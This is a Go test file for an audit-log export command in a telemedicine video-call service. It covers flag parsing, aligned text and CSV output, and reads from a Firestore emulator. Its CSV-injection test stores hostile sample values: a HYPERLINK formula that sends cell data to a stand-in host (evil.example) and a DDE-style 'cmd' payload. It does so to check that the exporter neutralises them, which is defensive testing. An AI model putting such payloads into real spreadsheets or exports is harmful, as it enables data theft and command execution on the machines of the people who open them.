package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"cloud.google.com/go/firestore"

	"github.com/telemed/videocalls/internal/emulatortest"
	"github.com/telemed/videocalls/store"
)

func TestMain(m *testing.M) { emulatortest.Main(m) }

func env(vars map[string]string) func(string) (string, bool) {
	return func(k string) (string, bool) {
		v, ok := vars[k]
		return v, ok
	}
}

func TestParseArgs(t *testing.T) {
	emu := map[string]string{"FIRESTORE_EMULATOR_HOST": "127.0.0.1:8180"}
	day := time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)
	cases := []struct {
		name string
		args []string
		env  map[string]string
		want options // compared when err is ""
		err  string  // a part of the error; "" for none
	}{
		{"nothing, emulator", nil, emu, options{project: "demo-videocalls", emulator: "127.0.0.1:8180"}, ""},
		{"every flag", []string{"--appointment", "A", "--uid", "u1", "--since", "2026-12-01", "--until", "2026-12-02T10:30:00+01:00", "--csv", "--project", "p"}, emu,
			options{filter: store.AuditFilter{AppointmentID: "A", UID: "u1", Since: day, Until: time.Date(2026, 12, 2, 9, 30, 0, 0, time.UTC)},
				csv: true, project: "p", emulator: "127.0.0.1:8180"}, ""},
		{"single dash and =", []string{"-appointment=A", "-since=2026-12-01T00:00:00.000001Z"}, emu,
			options{filter: store.AuditFilter{AppointmentID: "A", Since: day.Add(time.Microsecond)}, project: "demo-videocalls", emulator: "127.0.0.1:8180"}, ""},
		{"project from the environment", nil, map[string]string{"GOOGLE_CLOUD_PROJECT": "clinic-prod"}, options{project: "clinic-prod"}, ""},
		{"--project wins", []string{"--project", "other"}, map[string]string{"GOOGLE_CLOUD_PROJECT": "clinic-prod"}, options{project: "other"}, ""},
		{"project for the emulator", nil, map[string]string{"GOOGLE_CLOUD_PROJECT": "demo-x", "FIRESTORE_EMULATOR_HOST": "h:1"}, options{project: "demo-x", emulator: "h:1"}, ""},

		{"no project, no emulator", nil, nil, options{}, "no project: pass --project ID or set GOOGLE_CLOUD_PROJECT"},
		{"blank project, no emulator", nil, map[string]string{"GOOGLE_CLOUD_PROJECT": ""}, options{}, "no project"},
		{"blank emulator", []string{"--project", "p"}, map[string]string{"FIRESTORE_EMULATOR_HOST": " "}, options{}, "FIRESTORE_EMULATOR_HOST is set but empty"},
		{"unknown flag", []string{"--appointement", "A"}, emu, options{}, "flag provided but not defined: -appointement"},
		{"missing value", []string{"--uid"}, emu, options{}, "flag needs an argument: -uid"},
		{"empty value", []string{"--appointment", ""}, emu, options{}, "--appointment is empty"},
		{"positional", []string{"A"}, emu, options{}, `unexpected argument "A"`},
		{"bad since", []string{"--since", "yesterday"}, emu, options{}, `--since: "yesterday" is neither a date`},
		{"bad until", []string{"--until", "2026-13-01"}, emu, options{}, `--until: "2026-13-01" is neither a date`},
		{"time without zone", []string{"--since", "2026-12-01T10:00:00"}, emu, options{}, "neither a date"},
		{"until not after since", []string{"--since", "2026-12-02", "--until", "2026-12-02"}, emu, options{}, "is not after --since"},
		{"until before since", []string{"--since", "2026-12-02", "--until", "2026-12-01T23:59:59Z"}, emu, options{}, "is not after --since"},
		{"bad csv", []string{"--csv=maybe"}, emu, options{}, "invalid boolean value"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var help bytes.Buffer
			got, err := parseArgs(tc.args, env(tc.env), &help)
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("parseArgs(%q): %v, want an error with %q", tc.args, err, tc.err)
				}
				if !errors.Is(err, errUsage) {
					t.Errorf("parseArgs(%q): %v is not a usage error (exit 2)", tc.args, err)
				}
				return
			}
			if err != nil {
				t.Fatalf("parseArgs(%q): %v", tc.args, err)
			}
			if !got.filter.Since.Equal(tc.want.filter.Since) || !got.filter.Until.Equal(tc.want.filter.Until) {
				t.Errorf("since/until %v/%v, want %v/%v", got.filter.Since, got.filter.Until, tc.want.filter.Since, tc.want.filter.Until)
			}
			got.filter.Since, got.filter.Until, tc.want.filter.Since, tc.want.filter.Until = time.Time{}, time.Time{}, time.Time{}, time.Time{}
			if got != tc.want {
				t.Errorf("parseArgs(%q) = %+v, want %+v", tc.args, got, tc.want)
			}
		})
	}
}

func TestHelp(t *testing.T) {
	for _, arg := range []string{"-h", "--help"} {
		var stdout, stderr bytes.Buffer
		if code := run(context.Background(), []string{arg}, &stdout, &stderr); code != 0 {
			t.Errorf("%s: exit %d, want 0", arg, code)
		}
		for _, want := range []string{"usage: scripts/audit [--appointment ID] [--uid UID] [--since T] [--until T] [--csv]", "--until T", "exclusive", "FIRESTORE_EMULATOR_HOST"} {
			if !strings.Contains(stdout.String(), want) {
				t.Errorf("%s: help lacks %q:\n%s", arg, want, stdout.String())
			}
		}
	}
	var stdout, stderr bytes.Buffer
	if code := run(context.Background(), []string{"--since", "soon", "--project", "p"}, &stdout, &stderr); code != 2 {
		t.Errorf("bad flag: exit %d, want 2", code)
	}
	if !strings.Contains(stderr.String(), `audit: --since: "soon"`) || stdout.Len() != 0 {
		t.Errorf("bad flag: stdout %q, stderr %q", stdout.String(), stderr.String())
	}
}

var (
	at0     = time.Date(2026, 12, 2, 10, 0, 0, 123456000, time.UTC)
	entries = []store.AuditEntry{
		{ID: "1", At: at0, Action: "token", Outcome: "granted", UID: "doc-uid", Role: "doctor", AppointmentID: "A",
			RoomID: "room-a", RequestID: "req-1", AppCheck: "verified", IP: "203.0.113.1",
			Details: map[string]any{"role": "host", "jti": "j-1", "expiresAt": at0.Add(4 * time.Hour), "waiting": false, "note": "<&>"}},
		{ID: "2", At: at0.Add(time.Second), Action: "recording.start", Outcome: "refused",
			Reason: "consent missing, \"guest\"\nline two", UID: "client uid", Role: "client", AppointmentID: "A",
			RequestID: "req-2", AppCheck: "missing", IP: "=1+1"},
		{ID: "3", At: at0.Add(2 * time.Second), Action: "sweep.close", Outcome: "granted", UID: "system", Role: "system",
			AppointmentID: "a-rather-long-appointment-id-of-40-chars", RoomID: "room-a", RequestID: "req-3", AppCheck: "missing", IP: "\x1b[31m"},
	}
)

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	p := newCSVPrinter(&b)
	for _, e := range entries {
		if err := p.entry(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := p.flush(); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "\r\n") {
		t.Errorf("RFC 4180 lines end in CRLF: %q", b.String())
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	if len(rows) != 1+len(entries) || !slices.Equal(rows[0], csvHeader) {
		t.Fatalf("rows %q, want the header and %d entries", rows, len(entries))
	}
	wantHeader := []string{"at", "action", "outcome", "reason", "uid", "role", "appointmentId", "roomId", "requestId", "appCheck", "ip", "details"}
	if !slices.Equal(csvHeader, wantHeader) {
		t.Errorf("header %q, want %q", csvHeader, wantHeader)
	}
	col := func(row []string, name string) string { return row[slices.Index(csvHeader, name)] }
	for i, e := range entries {
		row := rows[i+1]
		if at, err := time.Parse(time.RFC3339Nano, col(row, "at")); err != nil || !at.Equal(e.At) || !strings.HasSuffix(col(row, "at"), "Z") {
			t.Errorf("row %d at %q, want %s in RFC 3339 UTC", i, col(row, "at"), e.At)
		}
		want := map[string]string{"action": e.Action, "outcome": e.Outcome, "reason": e.Reason, "uid": e.UID, "role": e.Role,
			"appointmentId": e.AppointmentID, "roomId": e.RoomID, "requestId": e.RequestID, "appCheck": e.AppCheck, "ip": e.IP}
		if e.IP == "=1+1" {
			want["ip"] = "'=1+1" // not a formula (TestCSVInjection)
		}
		for k, v := range want {
			if col(row, k) != v {
				t.Errorf("row %d %s = %q, want %q", i, k, col(row, k), v)
			}
		}
	}
	// details: compact JSON that reads back, timestamps in RFC 3339.
	d := col(rows[1], "details")
	if strings.Contains(d, " ") || strings.Contains(d, "\n") || !strings.Contains(d, `"note":"<&>"`) {
		t.Errorf("details %q: want compact JSON, unescaped HTML", d)
	}
	var m map[string]any
	if err := json.Unmarshal([]byte(d), &m); err != nil {
		t.Fatalf("details %q: %v", d, err)
	}
	if m["expiresAt"] != "2026-12-02T14:00:00.123456Z" || m["waiting"] != false || m["jti"] != "j-1" {
		t.Errorf("details read back as %v", m)
	}
	if col(rows[2], "details") != "" {
		t.Errorf("no details: %q, want empty", col(rows[2], "details"))
	}

	// An empty trail is still a CSV with its header.
	b.Reset()
	p = newCSVPrinter(&b)
	if err := p.flush(); err != nil {
		t.Fatal(err)
	}
	if b.String() != strings.Join(csvHeader, ",")+"\r\n" {
		t.Errorf("empty trail: %q, want the header alone", b.String())
	}
}

func TestText(t *testing.T) {
	var b bytes.Buffer
	p := newTextPrinter(&b)
	for _, e := range entries {
		if err := p.entry(e); err != nil {
			t.Fatal(err)
		}
	}
	t.Logf("text output:\n%s", b.String())
	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	if len(lines) != 1+len(entries) {
		t.Fatalf("%d lines, want a header and one per entry:\n%s", len(lines), b.String())
	}
	if strings.ContainsAny(b.String(), "\x1b\r") {
		t.Errorf("a control character reached the output: %q", b.String())
	}
	// Aligned: each column starts at the same place on every line while
	// the values fit (the third entry's appointment id does not, at the end).
	for _, c := range []string{"ACTION", "OUTCOME", "ROLE", "UID", "APPOINTMENT", "DETAILS"} {
		x := strings.Index(lines[0], c)
		for i, l := range lines[1:3] {
			if x <= 0 || x > len(l) || l[x-2:x] != "  " || l[x] == ' ' {
				t.Errorf("column %s (at %d) is not aligned on line %d:\n%s\n%s", c, x, i+1, lines[0], l)
			}
		}
	}
	for _, want := range []string{
		"2026-12-02T10:00:00.123456Z  token            granted  doctor  doc-uid",
		`room=room-a request=req-1 appCheck=verified ip=203.0.113.1 details={"expiresAt":"2026-12-02T14:00:00.123456Z","jti":"j-1","note":"<&>","role":"host","waiting":false}`,
		`"client uid"`, `reason="consent missing, \"guest\"\nline two"`, `ip="=1+1"`, `ip="\x1b[31m"`,
		"2026-12-02T10:00:02.123456Z  sweep.close      granted  system  system                        a-rather-long-appointment-id-of-40-chars  room=room-a",
	} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("output lacks %q:\n%s", want, b.String())
		}
	}
}

// seedTrail writes entries to the emulator's auditLog as the functions do
// (the Admin SDK), in an order other than the trail's.
func seedTrail(t *testing.T, project string) {
	t.Helper()
	emulatortest.Firestore(t)
	emulatortest.Wipe(t, project)
	ctx := context.Background()
	fs, err := firestore.NewClient(ctx, project)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()
	docs := map[string]map[string]any{
		"c3": {"at": at0.Add(2 * time.Second), "action": "endCall", "outcome": "granted", "uid": "doc-uid", "role": "doctor",
			"appointmentId": "A", "roomId": "room-a", "requestId": "req-3", "appCheck": "verified", "ip": "203.0.113.1",
			"details": map[string]any{"lock": true}},
		"a1": {"at": at0, "action": "token", "outcome": "granted", "uid": "doc-uid", "role": "doctor",
			"appointmentId": "A", "roomId": "room-a", "requestId": "req-1", "appCheck": "verified", "ip": "203.0.113.1",
			"details": map[string]any{"role": "host", "jti": "j-1", "expiresAt": at0.Add(4 * time.Hour)}},
		"b2": {"at": at0.Add(time.Second), "action": "token", "outcome": "refused", "reason": "not a participant",
			"uid": "stranger", "role": "none", "appointmentId": "A", "requestId": "req-2", "appCheck": "missing", "ip": "198.51.100.7"},
		"d4": {"at": at0.Add(24 * time.Hour), "action": "token", "outcome": "granted", "uid": "doc-uid", "role": "doctor",
			"appointmentId": "B", "roomId": "room-b", "requestId": "req-4", "appCheck": "verified", "ip": "203.0.113.1"},
	}
	for id, d := range docs {
		if _, err := fs.Collection("auditLog").Doc(id).Set(ctx, d); err != nil {
			t.Fatal(err)
		}
	}
}

func runAudit(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := run(context.Background(), args, &stdout, &stderr)
	return stdout.String(), stderr.String(), code
}

// TestEndToEnd reads a trail seeded in the emulator, with each filter, in
// both formats.
func TestEndToEnd(t *testing.T) {
	const project = "demo-audit-cmd"
	seedTrail(t, project)
	t.Setenv("GOOGLE_CLOUD_PROJECT", "") // --project decides

	requests := func(t *testing.T, out string) []string {
		t.Helper()
		return regexp.MustCompile(`req-\d`).FindAllString(out, -1)
	}
	for _, tc := range []struct {
		args []string
		want []string
	}{
		{nil, []string{"req-1", "req-2", "req-3", "req-4"}},
		{[]string{"--appointment", "A"}, []string{"req-1", "req-2", "req-3"}},
		{[]string{"--uid", "doc-uid"}, []string{"req-1", "req-3", "req-4"}},
		{[]string{"--appointment", "A", "--uid", "doc-uid"}, []string{"req-1", "req-3"}},
		{[]string{"--since", "2026-12-02T10:00:01.123456Z"}, []string{"req-2", "req-3", "req-4"}},
		{[]string{"--until", "2026-12-02T11:00:02.123456+01:00"}, []string{"req-1", "req-2"}},
		{[]string{"--since", "2026-12-03"}, []string{"req-4"}},
		{[]string{"--until", "2026-12-02"}, nil},
		{[]string{"--appointment", "nope"}, nil},
	} {
		args := append([]string{"--project", project}, tc.args...)
		stdout, stderr, code := runAudit(t, args...)
		if code != 0 {
			t.Fatalf("%q: exit %d: %s", args, code, stderr)
		}
		if got := requests(t, stdout); !slices.Equal(got, tc.want) {
			t.Errorf("%q printed %v, want %v:\n%s", args, got, tc.want, stdout)
		}
		if !strings.Contains(stderr, "project "+project+", Firestore emulator at "+os.Getenv("FIRESTORE_EMULATOR_HOST")) {
			t.Errorf("%q: stderr does not say what it read: %s", args, stderr)
		}
		count := fmt.Sprintf("audit: %d entries\n", len(tc.want))
		if len(tc.want) == 1 {
			count = "audit: 1 entry\n"
		}
		if !strings.HasSuffix(stderr, count) {
			t.Errorf("%q: stderr does not end with %q: %s", args, count, stderr)
		}

		stdout, stderr, code = runAudit(t, append(args, "--csv")...)
		if code != 0 {
			t.Fatalf("%q --csv: exit %d: %s", args, code, stderr)
		}
		rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
		if err != nil || len(rows) != 1+len(tc.want) || !slices.Equal(rows[0], csvHeader) {
			t.Fatalf("%q --csv: %v: %q", args, err, rows)
		}
		for i, row := range rows[1:] {
			if row[8] != tc.want[i] {
				t.Errorf("%q --csv row %d: requestId %q, want %q", args, i, row[8], tc.want[i])
			}
		}
	}
	stdout, _, _ := runAudit(t, "--project", project, "--csv", "--appointment", "A")
	for _, want := range []string{
		"2026-12-02T10:00:00.123456Z,token,granted,,doc-uid,doctor,A,room-a,req-1,verified,203.0.113.1," +
			`"{""expiresAt"":""2026-12-02T14:00:00.123456Z"",""jti"":""j-1"",""role"":""host""}"` + "\r\n",
		"2026-12-02T10:00:01.123456Z,token,refused,not a participant,stranger,none,A,,req-2,missing,198.51.100.7,\r\n",
		`,req-3,verified,203.0.113.1,"{""lock"":true}"` + "\r\n",
	} {
		if !strings.Contains(stdout, want) {
			t.Errorf("--csv lacks %q:\n%s", want, stdout)
		}
	}
}

// TestEndToEndFailure: an emulator that does not answer is an error
// naming it, exit 1, within the deadline.
func TestEndToEndFailure(t *testing.T) {
	ports, err := emulatortest.FreePorts(1)
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("FIRESTORE_EMULATOR_HOST", "127.0.0.1:"+strconv.Itoa(ports[0]))
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	var stdout, stderr bytes.Buffer
	if code := run(ctx, []string{"--project", "demo-nowhere"}, &stdout, &stderr); code != 1 {
		t.Fatalf("exit %d, want 1: %s", code, stderr.String())
	}
	if !strings.Contains(stderr.String(), "is the Firestore emulator running at 127.0.0.1:") {
		t.Errorf("stderr: %s", stderr.String())
	}
}

// TestScript runs scripts/audit as a user would: -h, a bad flag, and the
// seeded trail from the emulator.
func TestScript(t *testing.T) {
	script, err := filepath.Abs("../../scripts/audit")
	if err != nil {
		t.Fatal(err)
	}
	const project = "demo-audit-script"
	seedTrail(t, project)
	sh := func(args ...string) (string, string, error) {
		cmd := exec.Command(script, args...)
		cmd.Dir = t.TempDir() // works from anywhere
		cmd.Env = append(os.Environ(), "GOOGLE_CLOUD_PROJECT="+project)
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		err := cmd.Run()
		return stdout.String(), stderr.String(), err
	}
	stdout, stderr, err := sh("-h")
	if err != nil || !strings.Contains(stdout, "usage: scripts/audit") {
		t.Fatalf("scripts/audit -h: %v\n%s\n%s", err, stdout, stderr)
	}
	_, stderr, err = sh("--until", "tomorrow")
	var exit *exec.ExitError
	if !errors.As(err, &exit) || exit.ExitCode() != 2 || !strings.Contains(stderr, `--until: "tomorrow"`) {
		t.Errorf("scripts/audit --until tomorrow: %v, stderr %s", err, stderr)
	}
	stdout, stderr, err = sh("--appointment", "A", "--csv")
	if err != nil {
		t.Fatalf("scripts/audit: %v\n%s", err, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil || len(rows) != 4 || rows[1][8] != "req-1" || rows[3][8] != "req-3" {
		t.Errorf("scripts/audit --appointment A --csv: %v\n%s", err, stdout)
	}
}

// formulaChars are the first characters of a cell that a spreadsheet may
// run as a formula (OWASP, CSV injection), written out here on their own.
const formulaChars = "=+-@\t\r"

// TestCSVInjection reads, through the real path (the emulator, store's
// query, the CSV printer), entries whose stored values a stranger chose:
// an appointment id probed as a formula, a uid, a reason, an address. No
// cell of the export starts with a formula character, and each such value
// is there after one quote, as stored.
func TestCSVInjection(t *testing.T) {
	const project = "demo-audit-injection"
	emulatortest.Firestore(t)
	emulatortest.Wipe(t, project)
	ctx := context.Background()
	fs, err := firestore.NewClient(ctx, project)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()
	const probe = `=HYPERLINK("http://evil.example/?d="&A1,"Open the record")`
	stored := map[string]map[string]any{
		"p1": {"at": at0, "action": "token", "outcome": "refused", "reason": "-2+3+cmd|' /C calc'!A0",
			"uid": "@SUM(A1:A9)", "role": "none", "appointmentId": probe, "requestId": "+req", "appCheck": "missing",
			"ip": "\t=1+1", "details": map[string]any{"note": "=1+1"}},
		"p2": {"at": at0.Add(time.Second), "action": "token", "outcome": "refused", "reason": "\r=1+1",
			"uid": "'=already quoted", "role": "none", "appointmentId": probe, "requestId": "req-p2", "appCheck": "missing",
			"ip": "198.51.100.7"},
	}
	for id, d := range stored {
		if _, err := fs.Collection("auditLog").Doc(id).Set(ctx, d); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
	for _, args := range [][]string{
		{"--project", project, "--csv"},
		{"--project", project, "--csv", "--appointment", probe}, // the probe as a filter reads it back
	} {
		stdout, stderr, code := runAudit(t, args...)
		if code != 0 {
			t.Fatalf("%q: exit %d: %s", args, code, stderr)
		}
		rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("%q: %v: want the header and 2 rows:\n%s", args, err, stdout)
		}
		for i, row := range rows {
			for j, c := range row {
				if c != "" && strings.ContainsRune(formulaChars, rune(c[0])) {
					t.Errorf("%q: row %d, %s = %q starts with a formula character", args, i, csvHeader[j], c)
				}
			}
		}
		col := func(row []string, name string) string { return row[slices.Index(csvHeader, name)] }
		quoted := map[string][]string{ // the fields of each entry that start with = + - @ tab CR or '
			"p1": {"reason", "uid", "appointmentId", "requestId", "ip"},
			"p2": {"reason", "uid", "appointmentId"},
		}
		for i, id := range []string{"p1", "p2"} {
			for _, k := range quoted[id] {
				// encoding/csv writes CRLF line ends and drops a lone
				// CR in a field: "\r=1+1" is "'=1+1" in the file.
				want := "'" + strings.ReplaceAll(stored[id][k].(string), "\r", "")
				if got := col(rows[i+1], k); got != want {
					t.Errorf("%q: %s %s = %q, want %q", args, id, k, got, want)
				}
			}
		}
		if got := col(rows[2], "ip"); got != "198.51.100.7" {
			t.Errorf("%q: p2 ip = %q: a plain value is kept as it is", args, got)
		}
		if d := col(rows[1], "details"); d != `{"note":"=1+1"}` {
			t.Errorf("%q: details %q: JSON starts with {, it is kept as it is", args, d)
		}
	}
}
